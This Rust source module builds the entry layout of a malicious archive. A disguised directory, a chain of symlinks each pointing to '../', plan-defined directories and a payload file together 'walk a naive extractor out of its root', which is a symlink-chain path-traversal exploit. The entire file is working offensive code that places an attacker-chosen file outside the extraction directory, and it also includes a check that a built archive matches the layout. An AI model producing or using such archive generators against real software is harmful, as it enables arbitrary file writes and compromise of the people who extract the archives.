use std::path::{Path, PathBuf};

use crate::inspect::{InspectedEntry, InspectedKind};
use crate::plan::TraversalPlan;

/// Innocuous top-level directory the symlink chain hangs off.
pub const DISGUISE_DIR: &str = "sub";
/// Every symlink in the chain points exactly one level up.
pub const ASCENT_TARGET: &str = "../";

const FIRST_HOP: &str = "sub/root";
const SECOND_HOP: &str = "sub/root/outside";

/// One record of the archive, in the order it must be written.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ArchiveEntry {
    Directory { path: String },
    Symlink { path: String, target: String },
    File { path: String, source: PathBuf },
}

impl ArchiveEntry {
    pub fn path(&self) -> &str {
        match self {
            Self::Directory { path } | Self::Symlink { path, .. } | Self::File { path, .. } => path,
        }
    }

    pub fn is_directory(&self) -> bool {
        matches!(self, Self::Directory { .. })
    }

    pub fn is_symlink(&self) -> bool {
        matches!(self, Self::Symlink { .. })
    }

    pub fn is_file(&self) -> bool {
        matches!(self, Self::File { .. })
    }

    pub fn symlink_target(&self) -> Option<&str> {
        match self {
            Self::Symlink { target, .. } => Some(target),
            _ => None,
        }
    }

    pub fn kind_name(&self) -> &'static str {
        match self {
            Self::Directory { .. } => "directory",
            Self::Symlink { .. } => "symlink",
            Self::File { .. } => "file",
        }
    }
}

/// Ordered entry sequence that walks a naive extractor out of its root.
///
/// The sequence is: the disguise directory, two fixed `../` hops, one
/// chained `../` hop per ascent in the plan, the directories named by the
/// plan and finally the payload file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ArchiveLayout {
    entries: Vec<ArchiveEntry>,
    depth: usize,
}

impl ArchiveLayout {
    pub fn build(plan: &TraversalPlan, source: impl AsRef<Path>) -> Self {
        let mut entries = Vec::with_capacity(4 + plan.depth() + plan.components().len());

        entries.push(ArchiveEntry::Directory {
            path: format!("{DISGUISE_DIR}/"),
        });
        entries.push(ascent(FIRST_HOP.to_string()));
        entries.push(ascent(SECOND_HOP.to_string()));

        let mut current = SECOND_HOP.to_string();
        for i in 0..plan.depth() {
            current = format!("{current}/{i}");
            entries.push(ascent(current.clone()));
        }

        for dir in plan.directories() {
            current = format!("{current}/{dir}");
            entries.push(ArchiveEntry::Directory {
                path: current.clone(),
            });
        }

        entries.push(ArchiveEntry::File {
            path: format!("{current}/{}", plan.file_name()),
            source: source.as_ref().to_path_buf(),
        });

        Self {
            entries,
            depth: plan.depth(),
        }
    }

    pub fn entries(&self) -> &[ArchiveEntry] {
        &self.entries
    }

    pub fn depth(&self) -> usize {
        self.depth
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    pub fn symlinks(&self) -> impl Iterator<Item = &ArchiveEntry> {
        self.entries.iter().filter(|e| e.is_symlink())
    }

    /// The payload entry. A built layout always ends with it.
    pub fn payload(&self) -> &ArchiveEntry {
        &self.entries[self.entries.len() - 1]
    }

    /// Check a decoded archive against this layout, record by record.
    ///
    /// Directory names are compared with their trailing `/`; the payload's
    /// bytes are compared against `payload`.
    pub fn matches(&self, decoded: &[InspectedEntry], payload: &[u8]) -> bool {
        if decoded.len() != self.entries.len() {
            return false;
        }

        self.entries
            .iter()
            .zip(decoded)
            .all(|(expected, actual)| match (expected, &actual.kind) {
                (ArchiveEntry::Directory { path }, InspectedKind::Directory) => {
                    directory_name(path) == actual.path
                }
                (ArchiveEntry::Symlink { path, target }, InspectedKind::Symlink { target: t }) => {
                    *path == actual.path && target == t
                }
                (ArchiveEntry::File { path, .. }, InspectedKind::File { contents }) => {
                    *path == actual.path && contents.as_slice() == payload
                }
                _ => false,
            })
    }
}

fn ascent(path: String) -> ArchiveEntry {
    ArchiveEntry::Symlink {
        path,
        target: ASCENT_TARGET.to_string(),
    }
}

/// Directory record name: always ends in a single `/`.
pub fn directory_name(path: &str) -> String {
    if path.ends_with('/') {
        path.to_string()
    } else {
        format!("{path}/")
    }
}
